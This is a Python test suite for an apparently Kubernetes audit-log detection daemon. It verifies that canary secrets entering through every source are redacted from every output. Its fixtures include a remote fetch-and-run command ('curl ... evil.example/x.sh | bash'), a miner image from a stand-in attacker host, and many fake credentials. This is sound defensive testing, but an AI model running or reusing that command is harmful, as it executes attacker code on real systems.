# SPDX-License-Identifier: Apache-2.0
"""Secrets through every way in, looked for at every way out: no file, answer, log line or screen may hold one. What an analyst needs must be there."""
import base64
import glob
import json
import os
import re
import socket

from daemon import PATIENCE, free_port, harrierctl, ndjson, wait_for
from receiver import Answer
from test_relp import Session, syslog

MARK = "k4n4ry"
SEEN = re.compile(rb"k4n4ry", re.IGNORECASE)
count = 0


def secret():
    """Another one each time, which can be found in whatever it is shown in."""
    global count
    count += 1
    return f"{MARK}{count:04}X9z"


RULES = r"""
rule every_value_rows { meta: author = "t" severity = "HIGH"
  events: $e.metadata.log_type = "K8S_AUDIT" $e.target.resource.attribute.labels.value = /X9z$/ condition: $e }
rule every_value_any { meta: author = "t" severity = "HIGH"
  events: $e.metadata.log_type = "K8S_AUDIT" any $e.target.resource.attribute.labels.value = /X9z$/ condition: $e }
rule every_value_all { meta: author = "t" severity = "HIGH"
  events: $e.metadata.log_type = "K8S_AUDIT" all $e.target.resource.attribute.labels.value != "no such" condition: $e }
rule made_of_them { meta: author = "t" severity = "HIGH"
  events: $e.metadata.log_type = "K8S_AUDIT" $e.target.resource.attribute.labels["env_value"] = /X9z$/
  outcome: $capture = re.capture($e.target.resource.attribute.labels["env_value"], `(\w+X9z)`)
           $joined = strings.concat("<", $e.target.resource.attribute.labels["env_value"], ">")
           $everything = array_distinct($e.target.resource.attribute.labels.value)
           $commands = array_distinct($e.target.resource.attribute.labels["command"])
           $mine = array($e.target.resource.attribute.labels["mine"])
           $agent = $e.network.http.user_agent
           $title = strings.concat($e.target.resource.attribute.labels["annotation.example.com/password"])
  condition: $e }
"""


def jwt():
    return f"eyJhbGciOiJSUzI1NiIsImtpZCI6{secret()}.eyJzdWIiOiJzeXN0ZW06{secret()}.{secret()}"


def pem():
    return f"-----BEGIN RSA PRIVATE KEY-----\nMIIEow{secret()}\n{secret()}\n-----END RSA PRIVATE KEY-----\n"


def event(name, verb="create", resource="pods", uri="", status=None, annotations=None, **objects):
    made = {"kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "RequestResponse", "auditID": f"id-{name}", "stage": "ResponseComplete",
            "requestURI": uri or f"/api/v1/namespaces/default/{resource}?fieldManager=kubectl", "verb": verb,
            "user": {"username": f"eve@https://bot:{secret()}@evil.example/", "groups": ["system:authenticated"]}, "sourceIPs": ["10.0.0.9"],
            "userAgent": f"curl/8 (+https://bot:{secret()}@evil.example/)",
            "objectRef": {"resource": resource, "namespace": "default", "name": name, "apiVersion": "v1"},
            "responseStatus": status or {"code": 201}, **objects,
            "requestReceivedTimestamp": "2026-11-24T04:46:20.000000Z", "stageTimestamp": "2026-11-24T04:46:20.100000Z",
            "annotations": {"authorization.k8s.io/decision": "allow", **(annotations or {})}}
    return made


def pod(name, **metadata):
    container = {"name": "c", "image": "evil.example/miner:1",
                 "command": ["sh", "-c", f"curl -s http://evil.example/x.sh | bash; mysql --password={secret()} -h db; curl -H 'Authorization: Bearer {jwt()}' http://x"],
                 "args": ["--token", secret(), "--api-key=" + secret(), "postgres://app:" + secret() + "@db/x", "ghp_" + secret() * 3],
                 "env": [{"name": "DB_PASSWORD", "value": secret()}, {"name": "PLAIN", "value": secret()}],
                 "livenessProbe": {"httpGet": {"path": "/", "port": 80, "httpHeaders": [{"name": "Authorization", "value": f"Basic {secret()}"}]}}}
    return {"kind": "Pod", "apiVersion": "v1", "metadata": {"name": name, "namespace": "default", **metadata}, "spec": {"containers": [container]}}


def operation(path, value, op="add"):
    return {"op": op, "path": path, "value": value}


def events():
    """Named as the form that the secret takes."""
    inner = json.dumps({"kind": "Secret", "data": {"a": secret()}, "stringData": {"b": secret()}})
    patch = [operation("/data/x", secret()), operation("/stringData", {"k": secret()}), operation("/spec/db/password", secret(), "replace"),
             operation("/metadata/annotations/example.com~1api-token", secret()), operation("/spec/containers/0/env/-", {"name": "A", "value": secret()}),
             operation("/spec/containers/0/env/0/value", secret(), "test"), operation("/spec/containers/-", pod("x")["spec"]["containers"][0]),
             operation("/Data/~01", secret()), {"op": "add", "value": secret()}, {"value": secret(), "path": "/x", "op": "add", "PATH": "/BINARYDATA/x"},
             operation("/spec/passwords/0", secret())]
    return [
        event("secret", resource="secrets", requestObject={"kind": "Secret", "data": {"a": secret()}, "stringData": {"b": secret(), "c": secret()}},
              responseObject={"kind": "Secret", "data": {"a": secret()}}),
        event("upper-case", resource="secrets", requestObject={"kind": "Secret", "Data": {"a": secret()}, "STRINGDATA": {"b": secret()}, "PASSWORD": secret(),
                                                               "Api-Key": secret(), "client_secret": [secret()], "pin-token": 12345}),
        event("configmap", resource="configmaps", requestObject={"kind": "ConfigMap", "data": {"kubeconfig": f"users:\n- user:\n    token: {jwt()}\n"}}),
        event("pod", requestObject=pod("pod", annotations={
            "kubectl.kubernetes.io/last-applied-configuration": json.dumps(pod("pod")), "example.com/password": secret(), "example.com/key": pem(),
            "example.com/manifest": inner, "example.com/twice": json.dumps({"x": inner}), "example.com/yaml": f"stringData:\n  a: {secret()}\n"})),
        event("json-patch", verb="patch", requestObject=patch),
        event("merge-patch", verb="patch", requestObject={"spec": {"template": {"spec": {"containers": [{"name": "c", "env": [
            {"name": "TOKEN", "value": secret()}]}]}}, "values": {"env": {"NAME": secret()}, "dbPass": secret(), "auth": secret()}}}),
        event("token-request", resource="serviceaccounts", uri=f"/api/v1/namespaces/default/serviceaccounts/x/token?access_token={secret()}&watch=1",
              requestObject={"kind": "TokenRequest", "spec": {"audiences": ["a"]}}, responseObject={"kind": "TokenRequest", "status": {"token": jwt()}}),
        event("token-review", resource="tokenreviews", requestObject={"kind": "TokenReview", "spec": {"token": secret()}}),
        event("exec", verb="get", uri=f"/api/v1/namespaces/default/pods/x/exec?command=mysql&command=--password%3D{secret()}&command=--token&command={secret()}"),
        event("refused", resource="secrets", status={"code": 422, "message": f"Secret in version v1 cannot be handled: {secret()}"},
              responseObject={"kind": "Status", "message": secret(), "details": {"causes": [{"message": secret()}]}}),
        event("webhook", annotations={"patch.webhook.admission.k8s.io/round_0_index_0": json.dumps(
            {"configuration": "c", "patch": [operation("/data", {"k": secret()}), operation("/spec/containers/0/env/0/value", secret())], "patchType": "JSONPatch"})},
            requestObject=pod("webhook")),
        event("docker", resource="secrets", requestObject={"kind": "X", "spec": {".dockerconfigjson": secret(), "auths": {"r": {"auth": secret()}},
                                                                             "client-key-data": secret(), "bootstrap": "abcdef.0k4n4ry123456789"}}),
    ] + command_events() + shape_events()


def command(*words, **more):
    return {"kind": "Pod", "spec": {"containers": [{"name": "c", "image": "evil.example/miner:1", "command": list(words), **more}]}}


def field_error(field, value):
    """As the API server refuses an object (field.Error of k8s.io/apimachinery)."""
    message = f'{field}: Invalid value: "{value}": no'
    return {"status": {"code": 422, "reason": "Invalid", "message": f'X "x" is invalid: {message}'},
            "responseObject": {"kind": "Status", "message": f'X "x" is invalid: {message}', "details": {"causes": [
                {"reason": "FieldValueInvalid", "message": f'Invalid value: "{value}": no', "field": field}]}}}


def command_events():
    """Passwords that no option's name gives away, or that are quoted, escaped or divided."""
    lines = [f"mysql -u root -p{secret()} db", f"sshpass -p {secret()} ssh x", f"redis-cli -a {secret()} PING", f"echo root:{secret()} | chpasswd",
             f"PASSWORD=a\\ {secret()} run", f"run --password=a,{secret()}", f"PASSWORD:={secret()}", f"password => {secret()}", f"PASSWORD ?= {secret()}",
             f"PASSWORD=$'{secret()}' run", f"run --password=***{secret()}", f"ｐａｓｓｗｏｒｄ={secret()}", f"git clone https://{secret()}@git.example/x",
             f"curl https://hooks.slack.com/services/T/B/{secret()}", f"curl https://discord.com/api/webhooks/1/{secret()}",
             f"curl https://x.webhook.office.com/webhookb2/{secret()}", f"curl https://api.telegram.org/bot1:{secret()}/sendMessage"]
    words = [["curl", "-u", f"admin:{secret()}", "https://x"], ["mysql", f"-p{secret()}"], ["sshpass", "-p", secret(), "ssh"], ["redis-cli", "-a", secret()],
             ["run", "--password", "$" + secret()], ["docker", "run", "-e", f"A={secret()}", "alpine"]]
    return ([event(f"shell-{number}", requestObject=command("sh", "-c", line)) for number, line in enumerate(lines)] +
            [event(f"words-{number}", requestObject=command(*each)) for number, each in enumerate(words)] +
            [event("args", requestObject=command("mysql", args=[f"-p{secret()}", "-h", "db"]))])


def shape_events():
    """Secrets in places of every form."""
    bodies = [{"spec": {"password": {"plain": secret()}, "tokens": [{"a": {"b": secret()}}]}}, {"env": [f"A={secret()}"]}, {"env": f"A={secret()}"},
              {"env": {"A": {"value": secret()}}}, {"envVars": [{"name": "A", "value": secret()}], "extraEnv": {"A": secret()}},
              {"environmentVariables": {"A": secret()}, "environment": {"user": secret()}},
              {"spec": {"yaml": f"- name: X\n  value: {secret()}\n", "more": f"password:\n  {secret()}\n", "quoted": f'"data":\n  a: {secret()}\n',
                        "block": f'"password": |\n  {secret()}\n'}},
              {"spec": {"connString": secret(), "webhookUrl": secret(), "slackWebhook": secret(), "kubeconfig": secret(), "basicAuth": secret(), "cert.key": secret(),
                        "rootCAKey": secret(), "pin": secret(), "SEED": secret(), "pass-key": secret(), "PASSPHRASE": secret(), "licenceKey": secret(),
                        "license_key": secret(), "DATABASE_URL": f"postgres://app:{secret()}@db/x"}}]
    patches = [operation("/spec/password", {"plain": secret()}), operation("/spec/password", [{"a": secret()}]), operation("/spec/environment/A", secret()),
               operation("/spec/env/-", f"A={secret()}"), operation("/spec/password/plain", secret())]
    return ([event(f"body-{number}", resource="things", requestObject=body) for number, body in enumerate(bodies)] +
            [event("patches", verb="patch", resource="things", requestObject=patches),
             event("secret-patch", verb="patch", resource="secrets", requestObject=[operation("/x", secret()), operation("/metadata/annotations/x", secret())]),
             event("secret-merge", verb="patch", resource="secrets", requestObject={"x": {"y": secret()}}),
             event("secret-table", verb="list", resource="secrets", responseObject={"kind": "Table", "rows": [
                 {"cells": [secret(), 1], "object": {"metadata": {"name": "x"}, "x": secret()}}]}),
             event("secret-list", verb="list", resource="secrets", responseObject={"kind": "SecretList", "items": [{"metadata": {"name": "x"}, "x": secret()}]}),
             event("refused-field", resource="things", **field_error("spec.password", secret())),
             event("refused-env", resource="things", **field_error("spec.env[0].value", secret())),
             event(f"token={secret()}", requestObject=pod("named"))])


def text(value):
    return json.dumps(value, separators=(",", ":")).encode()


def envelopes():
    """The same in what events come wrapped in, each by its own name."""
    one = event("pod", requestObject=pod("pod"))
    line = json.dumps(one)
    return [
        text({"kind": "EventList", "apiVersion": "audit.k8s.io/v1", "items": events()}),
        b"\n".join(text(each) for each in events()),
        text([{"date": 1.0, "log": line}]),
        text({"records": [{"category": "kube-audit", "properties": {"log": line}}]}),
        text({"requestId": "r", "timestamp": 1, "records": [{"data": base64.b64encode(json.dumps({"messageType": "DATA_MESSAGE", "logGroup": "/aws/eks/c/cluster",
              "logStream": "kube-apiserver-audit-1", "logEvents": [{"id": "1", "timestamp": 1, "message": line}]}).encode()).decode()}]}),
        text({"insertId": "i", "timestamp": "2026-11-24T04:46:20Z", "resource": {"type": "k8s_cluster", "labels": {}}, "protoPayload": {
            "@type": "type.googleapis.com/google.cloud.audit.AuditLog", "serviceName": "k8s.io", "methodName": "io.k8s.core.v1.pods.create",
            "resourceName": "core/v1/namespaces/default/pods/x", "authenticationInfo": {"principalEmail": "eve@example.com"}, "request": pod("gke"),
            "response": {"kind": "Secret", "data": {"a": secret()}}, "requestMetadata": {"callerSuppliedUserAgent": f"x token={secret()}"}}}),
    ]


def broken():
    """What is no event, or only the beginning of one."""
    whole = text(event("broken", requestObject={"kind": "Secret", "data": {"a": secret(), "b": secret()}}))
    patch = text(event("broken", verb="patch", requestObject=[operation("/data/x", secret())]))
    return [
        whole[:whole.index(MARK.encode()) + 15],
        patch[:patch.index(MARK.encode()) + 12],
        text({"kind": "Secret", "data": {"a": secret()}, "spec": {"password": secret()}}),
        text({"kind": "List", "items": [{"kind": "Secret", "stringData": {"a": secret()}}, pod("listed")]}),
        text({"log": text({"kind": "Secret", "data": {"a": secret()}}).decode()})[:-3],
        f"apiVersion: v1\nkind: Secret\nstringData:\n  one: {secret()}\ndata:\n  two: {secret()}\n".encode(),
        f"{{\"a\": nonsense}} Authorization: Bearer {secret()}\n".encode(),
        f"password={secret()}&token={secret()}".encode(),
        f"env:\n- name: A\n  value: {secret()}\npassword:\n  {secret()}\n".encode(),
        text(command("curl", "-u", f"admin:{secret()}"))[:-2], text({"env": [f"A={secret()}"], "password": {"plain": secret()}})[:-1],
        f"spec.password: Invalid value: \"{secret()}\": no".encode(), f"mysql -p{secret()} -h db".encode(),
        text(pem()), text([secret_pair := {"value": secret(), "path": "/data/x"}, secret_pair])[:-1],
    ]


class World:
    """A daemon with a source of each kind, and destinations of three, one of which quotes secrets in its refusals."""

    def __init__(self, make_harrier, make_receiver, folder):
        self.rules = folder / "secrets.yaral"
        self.rules.write_text(RULES)
        self.log = folder / "audit.log"
        self.log.write_bytes(b"")
        self.syslog_port, self.relp_port = free_port(), free_port()
        self.soar, self.chat = make_receiver(), make_receiver()
        self.rude = make_receiver(otherwise=Answer(status=400, body=json.dumps({"error": "bad", "token": secret(), "jwt": jwt()}).encode()))
        self.harrier = make_harrier(
            rules=[str(self.rules)],
            destinations=[self.soar.destination("soar"), {"name": "chat", "type": "slack", "url": self.chat.url}, self.rude.destination("rude"),
                          {"name": "trail", "type": "file", "path": "alerts.ndjson"}])
        self.harrier.settings["sources"] += [
            {"name": "nodes", "type": "syslog", "listen": f"127.0.0.1:{self.syslog_port}"},
            {"name": "relay", "type": "relp", "listen": f"127.0.0.1:{self.relp_port}"},
            {"name": "followed", "type": "file", "file": str(self.log)}]
        self.harrier.settings.update(labels={"mine": "requestObject.PASSWORD"}, log={"level": "debug"})
        self.harrier.write_config()
        self.harrier.start()

    def feed(self):
        for body in envelopes() + broken():
            self.harrier.post(body, f"/k8s-audit?token={secret()}", Authorization=f"Bearer {secret()}")
        self.harrier.raw(b"POST /k8s-audit?password=%b HTTP/1.1\r\nHost: x\r\nAuthorization: Basic %b\r\nContent-Length: nonsense\r\n\r\n" % (
            secret().encode(), secret().encode()))
        lines = [text(each) for each in events()] + [each.replace(b"\n", b" ") for each in broken()]
        with socket.create_connection(("127.0.0.1", self.syslog_port), timeout=PATIENCE) as connection:
            for line in lines:
                connection.sendall(b"<134>Nov 24 04:46:20 cp-1 kube-audit: " + line + b"\n")
        session = Session(self.relp_port)
        session.response()
        for line in lines:
            session.send(b"syslog", syslog(line))
        for _ in lines:  # what is not acknowledged when the connection ends is nobody's loss, and is not judged
            assert session.response()
        session.close()
        with open(self.log, "ab") as file:
            file.write(b"".join(line + b"\n" for line in lines))

    def wait_until_done(self):
        metric = self.harrier.metric
        for source in ("apiserver", "nodes", "relay", "followed"):
            wait_for(lambda: metric("harrier_events_evaluated_total", source=source) >= len(events()), f"events of {source}")
            wait_for(lambda: metric("harrier_events_dead_lettered_total", source=source), f"dead letters of {source}")
        wait_for(lambda: len(self.soar.alert_ids()) >= len(events()) and self.chat.accepted() and self.rude.requests, "deliveries")

    def ways_out(self):
        """Name and bytes of each."""
        harrier = self.harrier
        yield "metrics", harrier.admin("/metrics")[1]
        for command in (["status"], ["status", "-o", "ndjson"], ["alerts", "list"], ["alerts", "list", "-o", "ndjson"], ["dead", "list"],
                        ["dead", "list", "-o", "ndjson"]):
            yield " ".join(command), harrier.ctl(*command, check=False).stdout
        for one in harrier._listed()[::4]:
            yield "alerts show", harrier.ctl("alerts", "show", one["alert_id"], "-o", "table").stdout
        for one in ndjson(harrier.ctl("dead", "list", "-o", "ndjson").stdout):
            if one["kind"] == "input":
                yield "dead show", harrier.ctl("dead", "show", str(one["number"]), "-o", "table").stdout
        harrier.stop()
        for path in glob.glob(os.path.join(harrier.folder, "**"), recursive=True):
            if os.path.isfile(path):
                with open(path, "rb") as file:
                    yield path, file.read()
        for receiver in (self.soar, self.chat, self.rude):
            for request in receiver.requests:
                yield request.path, request.body


def assert_no_secret(name, shown):
    found = SEEN.search(shown)
    assert not found, f"{name} shows a secret: ...{shown[max(0, found.start() - 300):found.end() + 60].decode('utf-8', 'replace')}..."


def test_no_secret_that_comes_in_anywhere_goes_out_anywhere(make_harrier, make_receiver, tmp_path):
    world = World(make_harrier, make_receiver, tmp_path)
    world.feed()
    world.wait_until_done()
    everything = list(world.ways_out())
    for name, shown in everything:
        assert_no_secret(name, shown)
    alerts = world.soar.alerts()
    assert {"every_value_rows", "every_value_any", "every_value_all", "made_of_them"} <= {alert["rule"]["name"] for alert in alerts}
    raw = "".join(alert["events"][0]["raw"] for alert in alerts)
    for kept in ("evil.example/miner:1", "curl -s http://evil.example/x.sh | bash", "DB_PASSWORD", "/spec/db/password", "Authorization", "--api-key="):
        assert kept in raw, f"{kept} is not there for the analyst"
    key = os.path.join(world.harrier.folder, "store", "redaction.key")
    assert os.stat(key).st_mode & 0o777 == 0o600


def test_no_secret_is_in_what_the_tool_prints_of_a_file(tmp_path):
    rules, log = tmp_path / "secrets.yaral", tmp_path / "audit.log"
    rules.write_text(RULES)
    log.write_bytes(b"\n".join([text(each) for each in events()] + broken()))
    for command in (["replay", "-o", "ndjson"], ["replay", "-o", "table"], ["explain", "--all", "-o", "table"], ["explain", "--all", "-o", "ndjson"]):
        done = harrierctl(*command, "--log-type", "K8S_AUDIT", "-r", rules, log, check=False)
        assert len(done.stdout) > 1000, (command, done.stderr)
        assert_no_secret(command, done.stdout + done.stderr)
    done = harrierctl("udm", "--log-type", "K8S_AUDIT", log, check=False)
    assert len(done.stdout) > 1000
    assert_no_secret("udm", done.stdout + done.stderr)


def test_equal_secrets_look_equal_over_a_restart(make_harrier, tmp_path):
    rules = tmp_path / "secrets.yaral"
    rules.write_text(RULES)
    harrier = make_harrier(rules=[str(rules)]).start()
    shown = []
    for name in ("a", "b"):
        one = event(name, requestObject={"spec": {"containers": [{"name": "c", "env": [{"name": "N", "value": MARK + "X9z"}]}]}})
        assert harrier.post(text(one))[0] == 200
        shown.append(wait_for(lambda: {alert["outcomes"]["joined"] for alert in harrier.trail()
                                       if alert["rule"]["name"] == "made_of_them" and alert["action"]["name"] == name}, f"the alert of {name}"))
        harrier.stop()
        harrier.start()
    harrier.stop()
    assert shown[0] and shown[0] == shown[1]
    assert re.fullmatch(r"length 11, hmac [0-9a-f]{16}", shown[0].pop())

